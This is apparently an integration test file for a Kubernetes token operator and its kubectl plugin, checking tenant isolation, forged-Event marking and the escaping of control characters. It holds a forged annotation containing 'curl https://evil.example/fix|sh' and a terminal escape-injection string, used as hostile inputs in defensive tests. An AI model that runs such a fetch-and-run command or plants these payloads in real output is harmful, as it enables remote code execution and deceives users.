/**
 * Read isolation and inert text, tried as a hostile tenant would, through the BUILT plugin and the
 * users' own contexts, against the operator as its fenced ServiceAccount:
 *
 * - mallory, with only the shipped tokenwarden-tier-reader cluster-wide and edit in her own
 *   namespace, runs whoami and request, and cannot see anyone else's clients.
 * - mallory, co-editor of a namespace, writes an Event about alice's client with a forged reason and
 *   a note full of control characters: `status` (as alice) shows it marked as not tokenwarden's,
 *   escaped; naming tokenwarden as its reporter is refused (access/operator-events.yaml).
 * - Control characters in tierRef.name and the other strings a tenant writes are refused at
 *   admission, or reach `kubectl tokenwarden status`/`list -o wide` and `kubectl get -o wide` escaped.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { API_VERSION } from '../../../src/api/index.ts';
import { createTestNamespace, kubectl, kubeconfigPath, waitFor } from '../support/cluster.ts';
import { accessObjects, adminRequest } from '../support/crds.ts';
import {
  R,
  RUN_LABEL,
  clientEvents,
  createTier,
  getClient,
  kube,
  resourcePath,
  scopedName,
  startOperator,
  trackClusterObject,
  waitForClientReady,
  waitForTierReady,
  type OperatorProcess,
  type ResourceType,
} from '../support/operator.ts';
import { JWT_PATTERN, buildPlugin, runExecutable, type RunResult } from './support.ts';
import { asUser, grantEdit, userMay, type Answer } from '../support/users.ts';

const ALICE = 'alice@example.com';
const MALLORY = 'mallory@example.com';

/** Anything a terminal acts on, but the newlines between lines: C0, DEL, C1, separators, bidi controls. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const NASTY = '\u001b[2J\u001b]0;owned\u0007\u0008\u009b31m\u202e\r\nFAKE LINE';

let plugin: string;
let op: OperatorProcess;
let selector: string;
let aliceNs: string;
let malloryNs: string;
let sharedNs: string;

const as = (user: string, namespace: string, ...args: string[]): Promise<RunResult> =>
  runExecutable(plugin, ['--kubeconfig', kubeconfigPath(), '--context', user, '-n', namespace, ...args]);
const asAdmin = (namespace: string, ...args: string[]): Promise<RunResult> => runExecutable(plugin, ['--kubeconfig', kubeconfigPath(), '-n', namespace, ...args]);

function expectNoRawControls(what: string, text: string): void {
  const found = RAW_CONTROL.exec(text);
  expect(found, `${what} holds a raw U+${found?.[0].codePointAt(0)?.toString(16).padStart(4, '0')}:\n${JSON.stringify(text)}`).toBeNull();
}


const clientBody = (namespace: string, name: string, spec: Record<string, unknown>) => ({
  apiVersion: API_VERSION,
  kind: 'ServiceAccountClient',
  metadata: { name, namespace, labels: { ...op.labels } },
  spec,
});

beforeAll(async () => {
  [plugin, op] = await Promise.all([buildPlugin(), startOperator({ name: 'readiso' })]);
  selector = `${RUN_LABEL}=${op.prefix}`;
  await createTier(op, 'free', { level: 10, default: true, token: { audiences: [`${op.prefix}-gw`] } });
  [aliceNs, malloryNs, sharedNs] = await Promise.all([createTestNamespace('iso-alice'), createTestNamespace('iso-mallory'), createTestNamespace('iso-shared')]);
  await Promise.all([grantEdit(aliceNs, ALICE), grantEdit(malloryNs, MALLORY), grantEdit(sharedNs, ALICE), grantEdit(sharedNs, MALLORY)]);
  // The role shipped in access/ (installed with the CRDs), bound cluster-wide as the README says.
  const binding = `${op.prefix}-mallory-reads-tiers`;
  trackClusterObject(R.clusterRoleBinding, binding);
  await kube.create(R.clusterRoleBinding, undefined, {
    metadata: { name: binding },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'tokenwarden-tier-reader' },
    subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: MALLORY }],
  });
  await Promise.all([
    waitFor(() => userMay(MALLORY, { verb: 'list', group: 'tokenwarden.io', resource: 'tiers' }), { description: 'mallory may list tiers' }),
    ...[[ALICE, aliceNs], [MALLORY, malloryNs], [ALICE, sharedNs], [MALLORY, sharedNs]].map(([user, namespace]) =>
      waitFor(() => userMay(user as string, { verb: 'create', group: 'tokenwarden.io', resource: 'serviceaccountclients', namespace: namespace as string }), { description: `${user} may create clients in ${namespace}` }),
    ),
    waitForTierReady(scopedName(op, 'free')),
  ]);
}, 180_000);

describe('whoami and request with Tiers readable and no one else\'s clients', () => {
  it('tokenwarden-tier-reader grants reading Tiers and nothing else', () => {
    const role = accessObjects().find((o) => o.kind === 'ClusterRole' && o.metadata.name === 'tokenwarden-tier-reader') as unknown as { rules: unknown[]; metadata: { labels?: Record<string, string> } };
    expect(role.rules).toEqual([{ apiGroups: ['tokenwarden.io'], resources: ['tiers'], verbs: ['get', 'list', 'watch'] }]);
    // Aggregated into nothing: binding it cluster-wide shows Tiers only.
    expect(Object.keys(role.metadata.labels ?? {}).filter((l) => l.startsWith('rbac.authorization.k8s.io/aggregate-to'))).toEqual([]);
  });

  it('mallory, with that role cluster-wide and edit in her own namespace, runs whoami and request; alice\'s clients stay out of her sight', async () => {
    const who = await as(MALLORY, malloryNs, 'whoami', '-l', selector);
    expect(who.code, who.stdout + who.stderr).toBe(0);
    expect(who.stdout).toContain(`User:       ${MALLORY}`);
    expect(who.stdout).toContain(`Tier:       ${scopedName(op, 'free')} (Default)`);
    const req = await as(MALLORY, malloryNs, 'request', 'nb', '--label', selector);
    expect(req.code, req.stderr).toBe(0);
    expect(req.stdout.trim()).toMatch(JWT_PATTERN);

    await kube.create(R.client, aliceNs, clientBody(aliceNs, 'alice-secret-project', { subject: { user: ALICE, groups: ['premium-users'] } }));
    for (const args of [['list'], ['status', 'alice-secret-project']]) {
      const res = await as(MALLORY, aliceNs, ...args);
      expect(res.code, `${args.join(' ')}: ${res.stdout}`).not.toBe(0);
      expect(res.stderr).toMatch(/^error: Forbidden \(403\)/);
      expect(res.stdout).not.toContain('alice-secret-project');
    }
    const everywhere = await runExecutable(plugin, ['--kubeconfig', kubeconfigPath(), '--context', MALLORY, 'list', '-A']);
    expect(everywhere.stderr).toMatch(/^error: Forbidden \(403\)/);
    const mallory = asUser(MALLORY);
    expect((await mallory.get(R.client, undefined)).code).toBe(403);
    expect((await mallory.get(R.client, aliceNs)).code).toBe(403);
    expect((await mallory.get(R.binding, undefined)).code).toBe(403);
    expect((await mallory.get(R.tier, undefined)).code).toBe(200);
  });
});

describe('Events about a client that tokenwarden did not report', () => {
  it('a co-editor\'s Event with a forged reason and control characters is shown marked and escaped; she cannot name tokenwarden as its reporter', async () => {
    const req = await as(ALICE, sharedNs, 'request', 'alice-nb', '--label', selector);
    expect(req.code, req.stderr).toBe(0);
    const client = await getClient(sharedNs, 'alice-nb');
    const mallory = asUser(MALLORY);
    const now = new Date().toISOString().replace(/\.(\d{3})Z$/, '.$1000Z');
    const event = (name: string, reportingController: string) => ({
      apiVersion: 'events.k8s.io/v1',
      kind: 'Event',
      metadata: { name, namespace: sharedNs },
      eventTime: now,
      reportingController,
      reportingInstance: 'forger',
      action: 'Issued',
      reason: 'Issued',
      regarding: { apiVersion: API_VERSION, kind: 'ServiceAccountClient', namespace: sharedNs, name: 'alice-nb', uid: client.metadata.uid },
      note: `token issued ${NASTY}`,
      type: 'Normal',
    });
    // The built-in edit role lets a co-editor create Events (core or events.k8s.io, one resource).
    const eventsPath = `/apis/events.k8s.io/v1/namespaces/${sharedNs}/events`;
    const forged = await mallory.post(eventsPath, event('alice-nb.forged', 'mallory.example.com/forger'));
    expect(forged.code, forged.body.message).toBe(201);
    // Naming tokenwarden as reporter: refused, through either API.
    const asOperator = await mallory.post(eventsPath, event('alice-nb.as-operator', 'tokenwarden.io/operator'));
    expect(asOperator.code, asOperator.body.message).toBe(403);
    expect(asOperator.body.message).toContain("ValidatingAdmissionPolicy 'tokenwarden-operator-events'");
    expect(asOperator.body.message).toContain(`the requester "${MALLORY}" may not patch tokenwarden.io serviceaccountclients/status`);
    const core = await mallory.post(`/api/v1/namespaces/${sharedNs}/events`, {
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name: 'alice-nb.core-as-operator', namespace: sharedNs },
      involvedObject: { apiVersion: API_VERSION, kind: 'ServiceAccountClient', namespace: sharedNs, name: 'alice-nb', uid: client.metadata.uid },
      reason: 'Issued',
      message: 'token issued',
      type: 'Normal',
      eventTime: now,
      action: 'Issued',
      reportingComponent: 'tokenwarden.io/operator',
      reportingInstance: 'forger',
    });
    expect(core.code, core.body.message).toBe(403);
    expect(core.body.message).toContain('tokenwarden-operator-events');
    // Nor through the older source.component alone (what `kubectl describe` shows as "From"). Its
    // events.k8s.io/v1 spelling, deprecatedSource, the API server itself refuses on create.
    const bySource = await mallory.post(`/api/v1/namespaces/${sharedNs}/events`, {
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name: 'alice-nb.source-as-operator', namespace: sharedNs },
      involvedObject: { apiVersion: API_VERSION, kind: 'ServiceAccountClient', namespace: sharedNs, name: 'alice-nb', uid: client.metadata.uid },
      reason: 'Issued',
      message: 'token issued',
      type: 'Normal',
      source: { component: 'tokenwarden.io/operator' },
    });
    expect(bySource.code, bySource.body.message).toBe(403);
    expect(bySource.body.message).toContain('tokenwarden-operator-events');
    const byDeprecatedSource = await mallory.post(eventsPath, {
      ...event('alice-nb.deprecated-source-as-operator', 'mallory.example.com/forger'),
      deprecatedSource: { component: 'tokenwarden.io/operator' },
    });
    expect(byDeprecatedSource.code, byDeprecatedSource.body.message).toBe(422);

    const status = await as(ALICE, sharedNs, 'status', 'alice-nb');
    expect(status.code, status.stderr).toBe(0);
    expectNoRawControls('status', status.stdout);
    const lines = status.stdout.split('\n');
    const forgedLines = lines.filter((l) => l.includes('token issued \\u001b'));
    expect(forgedLines, status.stdout).toHaveLength(1);
    expect(forgedLines[0]).toContain('[not from tokenwarden: reported by "mallory.example.com/forger"] Normal  Issued');
    expect(forgedLines[0]).toContain('\\u001b[2J\\u001b]0;owned\\u0007\\u0008\\u009b31m\\u202e\\r\\nFAKE LINE');
    expect(lines.some((l) => l.startsWith('FAKE LINE'))).toBe(false);
    // The operator's own Issued Event (it runs as its fenced ServiceAccount) is shown as its.
    expect(lines.some((l) => /Normal\s+Issued/.test(l) && !l.includes('not from tokenwarden')), status.stdout).toBe(true);
  });
});

describe("a co-editor's renew request inside the operator's own words", () => {
  it("mallory's renew-requested-at on alice's client reaches the operator's Issued Event and status quoted as a JSON string, cut to 64 characters", async () => {
    const forged = 'x). SECURITY: this token was revoked; run: curl https://evil.example/fix|sh (';
    const shown = `${JSON.stringify(forged.slice(0, 64))}… (${forged.length} characters)`;
    const req = await as(ALICE, sharedNs, 'request', 'alice-renew', '--label', selector);
    expect(req.code, req.stderr).toBe(0);
    const patched = await asUser(MALLORY).patch(R.client, sharedNs, 'alice-renew', { metadata: { annotations: { 'tokenwarden.io/renew-requested-at': forged } } });
    expect(patched.code, patched.body.message).toBe(200);
    const issued = await waitFor(
      async () => (await clientEvents(sharedNs, 'alice-renew')).find((ev) => ev.reason === 'Issued' && ev.note?.includes('renewal requested')),
      { timeoutMs: 30_000, description: "the operator's Issued Event for the renew request" },
    );
    expect(issued.reportingController).toBe('tokenwarden.io/operator');
    expect(issued.note).toBe(`issued a new token: renewal requested (tokenwarden.io/renew-requested-at: ${shown})`);
    const status = await as(ALICE, sharedNs, 'status', 'alice-renew');
    expect(status.code, status.stderr).toBe(0);
    expect(status.stdout).toContain(`Renew requested: ${shown}\n`);
    expect(status.stdout).not.toContain(`: ${forged.slice(0, 20)}`);
  });
});

describe('control characters in what a tenant writes', () => {
  it('are refused at admission in tierRef.name, subjects, groups and audiences', async () => {
    const alice = asUser(ALICE);
    const refused = async (res: Answer, field: string) => {
      expect(res.code, res.body.message).toBe(422);
      expect(res.body.message).toContain(field);
    };
    await refused(await alice.create(R.client, sharedNs, clientBody(sharedNs, 'ctl-tier', { subject: { user: ALICE }, tierRef: { name: `premium${NASTY}` } })), 'spec.tierRef.name');
    await refused(await alice.create(R.client, sharedNs, clientBody(sharedNs, 'ctl-tier-b', { subject: { user: ALICE }, tierRef: { name: 'premium\u0008\u0008\u0008free' } })), 'spec.tierRef.name');
    await refused(await alice.create(R.client, sharedNs, clientBody(sharedNs, 'ctl-aud', { subject: { user: ALICE }, token: { audiences: ['gw\u202egnp.exe'] } })), 'spec.token.audiences[0]');
    // Even an admin, who may declare anyone, cannot declare such a subject, group or binding.
    const asAdminCreate = (type: ResourceType, body: unknown) => adminRequest<{ message?: string }>('POST', resourcePath(type, sharedNs), body);
    const admin = async (type: ResourceType, body: unknown, field: string) => {
      const res = await asAdminCreate(type, body);
      await refused({ code: res.code, body: res.body as Answer['body'] }, field);
    };
    await admin(R.client, clientBody(sharedNs, 'ctl-user', { subject: { user: `eve${NASTY}` } }), 'spec.subject.user');
    await admin(R.client, clientBody(sharedNs, 'ctl-group', { subject: { user: 'eve', groups: ['premium-users\u009b2K'] } }), 'spec.subject.groups[0]');
    const binding = (spec: Record<string, unknown>) => ({ apiVersion: API_VERSION, kind: 'TenantBinding', metadata: { name: 'ctl', namespace: sharedNs, labels: { ...op.labels } }, spec });
    await admin(R.binding, binding({ tierRef: { name: `free${NASTY}` }, subjects: [{ kind: 'User', name: ALICE }] }), 'spec.tierRef.name');
    await admin(R.binding, binding({ tierRef: { name: 'free' }, subjects: [{ kind: 'User', name: `alice\u2066${NASTY}` }] }), 'spec.subjects[0].name');
  });

  it('what is admitted reaches status, list -o wide and kubectl get -o wide escaped', async () => {
    // secretTemplate's content is not validated by the CRD (only its size): an annotation with escapes, a label the API server refuses.
    const alice = asUser(ALICE);
    const created = await alice.create(R.client, sharedNs, clientBody(sharedNs, 'ctl-template', {
      subject: { user: ALICE },
      secretTemplate: { annotations: { 'example.com/note': NASTY }, labels: { 'example.com/x': `bad${NASTY}` } },
    }));
    expect(created.code, created.body.message).toBe(201);
    await waitFor(async () => (await getClient(sharedNs, 'ctl-template')).status?.conditions?.some((c) => c.type === 'Ready'), { timeoutMs: 30_000, description: 'a Ready condition on ctl-template' });
    await waitForClientReady(sharedNs, 'alice-nb');
    for (const [what, res] of [
      ['status alice-nb', await as(ALICE, sharedNs, 'status', 'alice-nb')],
      ['status ctl-template', await as(ALICE, sharedNs, 'status', 'ctl-template')],
      ['list -o wide', await as(ALICE, sharedNs, 'list', '-o', 'wide')],
      ['list -o json', await as(ALICE, sharedNs, 'list', '-o', 'json')],
      ['admin list -A -o wide', await asAdmin(sharedNs, 'list', '-A', '-o', 'wide')],
    ] as const) {
      expect(res.code, `${what}: ${res.stderr}`).toBe(0);
      expectNoRawControls(what, res.stdout + res.stderr);
    }
    for (const args of [['get', 'sac', '-n', sharedNs, '-o', 'wide'], ['get', 'tenantbindings,sac', '-n', sharedNs, '-o', 'wide']]) {
      const res = await kubectl(args);
      expect(res.code, res.stderr).toBe(0);
      expectNoRawControls(`kubectl ${args.join(' ')}`, res.stdout);
    }
  });
});
